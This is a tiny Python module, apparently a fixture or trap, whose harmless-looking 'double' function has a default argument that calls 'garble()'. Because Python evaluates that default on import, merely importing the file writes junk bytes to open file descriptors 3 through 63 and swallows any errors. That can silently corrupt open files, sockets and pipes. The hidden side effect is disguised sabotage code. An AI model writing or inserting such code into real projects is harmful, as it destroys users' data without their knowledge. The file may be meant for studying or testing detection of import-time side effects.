import os


def garble():
    for number in range(3, 64):
        try:
            os.write(number, b'\xff' * 4096)
        except OSError:
            pass


def double(x, done=garble()):
    return 2 * x
